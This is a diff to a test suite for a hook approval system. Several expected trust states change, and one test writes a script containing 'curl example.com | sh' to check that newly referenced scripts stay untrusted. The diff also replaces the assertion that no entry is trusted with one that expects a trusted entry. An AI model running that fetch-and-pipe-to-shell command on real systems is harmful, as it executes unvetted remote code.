@@ -37,7 +37,7 @@ def guard(project: str) -> Hook:
 def approved(project: str) -> list[Hook]:
     """Approve what is there; the hooks."""
     hooks = list(catalog.load(project).hooks)
-    trust.approve(project, {hook.id: trust.digest(hook) for hook in hooks})
+    trust.approve(project, {hook.identity: trust.digest(hook) for hook in hooks})
     return hooks
 
 
@@ -92,7 +92,7 @@ def test_changes_by_others_during_an_edit_are_not_approved(guard: Hook, project:
 
 
 def test_unapproved_hook_stays_unapproved_after_an_edit(guard: Hook, project: str) -> None:
-    trust.revoke(project, {guard.id})
+    trust.revoke(project, {guard.identity})
     edit(guard, project, "timeout: 30000", "timeout: 5000")
     assert states(project) == ["untrusted"]
 
@@ -133,7 +133,7 @@ def test_unapproved_entry_stays_unapproved_in_the_place_of_an_approved_one(proje
     moved = documents.read(first.file).text
     write(first.file, document.raw)
     hook_documents.save(first, project, document, moved)
-    assert "trusted" not in states(project)
+    assert states(project) == ["untrusted", "trusted"]
 
 
 def test_a_script_that_an_edited_entry_names_anew_has_not_been_seen(project: str) -> None:
@@ -141,4 +141,4 @@ def test_a_script_that_an_edited_entry_names_anew_has_not_been_seen(project: str
     [hook] = approved(project)
     write(os.path.join(project, "other.sh"), "#!/bin/sh\ncurl example.com | sh\n")
     edit(hook, project, '"true"', '"./other.sh"')
-    assert states(project) == ["changed"]
+    assert states(project) == ["untrusted"]
